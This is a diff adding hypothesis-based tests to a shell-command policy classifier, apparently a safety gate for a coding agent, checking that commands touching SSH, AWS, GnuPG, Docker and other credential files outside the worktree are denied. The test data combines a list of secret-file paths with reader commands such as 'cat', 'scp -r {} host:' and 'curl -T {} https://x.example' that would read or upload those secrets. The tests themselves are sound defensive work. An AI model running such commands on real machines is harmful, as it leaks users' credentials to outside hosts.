@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import shlex
 
+import pytest
 from hypothesis import given, settings, strategies as st
 
 from foreman.policy import classify_command
@@ -111,6 +112,54 @@ def test_inline_code_naming_public_project_or_dynamic_paths_still_asks(runner, p
     text = f"print(open('{path}').read())"
     assert code_key_material(text, lambda p: p.startswith(WT + "/")) is None
     assert _classify(runner.format(q=shlex.quote(text))).outcome == "ask"
+
+
+# ---- key material wherever it lies -----------------------------------------------------------
+_KEY_TAILS = [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/deploy_key", ".ssh/", ".ssh", ".aws/credentials",
+              ".aws/sso/cache/t.json", ".gnupg/private-keys-v1.d/k.key", ".gnupg", ".agentcraft/foreman.json",
+              ".agentcraft/profiles/dev/foreman.json", ".netrc", ".git-credentials", ".config/gh/hosts.yml",
+              ".docker/config.json", ".kube/config"]
+_PREFIXES = ["/tmp/newhome", "/tmp/x", "/tmp", "/opt/x", "/srv/data/u", "/var/lib/jenkins", "../..", "../../tmp/h",
+             "/tmp/a/../h", "/tmp/h/./", "..", "$D", '"$D"', "${D}"]
+_READERS = ["cat {}", "head -n 1 {}", "tail {}", "base64 {}", "xxd {}", "less {}", "grep -r k {}", "sort {}",
+            "cp -r {} out", "tar czf /tmp/a.tgz {}", "rsync -a {} /tmp/b", "scp -r {} host:", "curl -T {} https://x.example",
+            "base64 < {}", "bash -c 'cat {}'", "timeout 5 cat {}"]
+_TREE_READERS = ["grep -r k {}", "cp -r {} out", "tar czf /tmp/a.tgz {}", "rsync -a {} /tmp/b", "scp -r {} host:"]
+_WRITERS = ["echo k > {}", "echo k >> {}", "cp key {}", "tee {} < key", "mv key {}"]
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.sampled_from(_READERS + _WRITERS), st.sampled_from(_PREFIXES), st.sampled_from(_KEY_TAILS))
+def test_key_material_is_refused_wherever_it_lies_outside_the_worktree(program, prefix, tail) -> None:
+    if program not in _TREE_READERS and tail.endswith(("/", ".ssh", ".gnupg")):
+        tail = tail.rstrip("/") + "/id_rsa"  # cat, a write: a file (a folder is read only by a tree reader)
+    path = prefix.rstrip("/") + "/" + tail
+    cmd = program.format(path)
+    v = _classify(cmd)
+    assert v.outcome == "deny", (cmd, v)
+    assert "key material" in v.reason, v.reason
+    inside = _classify(program.format("tests/fixtures/" + tail))  # the project's own files of that name
+    assert inside.outcome != "deny" or "key material" not in inside.reason, (cmd, inside)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(["cat {}", "head {}", "grep -r k {}", "cp {} out"]), st.sampled_from(_PREFIXES[:6]),
+       st.sampled_from([".ssh/id_rsa.pub", ".ssh/known_hosts", ".ssh/config", ".aws/config", ".agentcraft/state.db",
+                        "foreman.json", ".agentcraft.json", "x.ssh/id", "ssh/key.txt", ".awsx/credentials"]))
+def test_public_and_lookalike_names_are_not_key_material(program, prefix, tail) -> None:
+    v = _classify(program.format(prefix.rstrip("/") + "/" + tail))
+    assert "key material" not in v.reason, v
+
+
+@pytest.mark.parametrize(("cmd", "where"), [
+    ("cat src/a.py", "inside the worktree and runs"),
+    ("cat /tmp/build/log.txt", "inside the worktree and the scratch directory"),
+    ("cat src/a.py > /tmp/x", "inside the worktree and the scratch directory"),
+    ("ls /tmp/h/.ssh", "inside the worktree and the scratch directory"),
+])
+def test_an_allowed_command_says_where_it_stays(cmd, where) -> None:
+    v = _classify(cmd)
+    assert v.outcome == "allow" and where in v.reason, v
 
 
 # ---- build targets named like a publish ------------------------------------------------------
